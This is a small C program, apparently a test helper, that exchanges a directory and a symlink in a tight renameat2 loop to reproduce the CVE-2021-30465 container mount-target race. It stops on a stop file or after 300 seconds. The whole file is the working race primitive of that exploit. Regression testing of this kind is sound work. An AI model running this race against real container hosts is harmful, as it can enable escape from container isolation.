/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* renameat2-race DIR A B STOPFILE: exchange DIR/A and DIR/B (a directory and a symlink) with
 * renameat2(RENAME_EXCHANGE) as fast as possible until STOPFILE exists (or 300 s pass), for the
 * mount-target swap race of CVE-2021-30465. Prints the number of exchanges. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv)
{
        if (argc != 5) {
                fprintf(stderr, "usage: renameat2-race DIR A B STOPFILE\n");
                return 2;
        }
        int d = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (d < 0) {
                perror(argv[1]);
                return 1;
        }
        time_t end = time(NULL) + 300;
        unsigned long n = 0;
        for (;;) {
                for (int i = 0; i < 1000; i++)
                        if (syscall(SYS_renameat2, d, argv[2], d, argv[3], RENAME_EXCHANGE) == 0)
                                n++;
                if (access(argv[4], F_OK) == 0 || time(NULL) > end)
                        break;
        }
        printf("%lu\n", n);
        return 0;
}
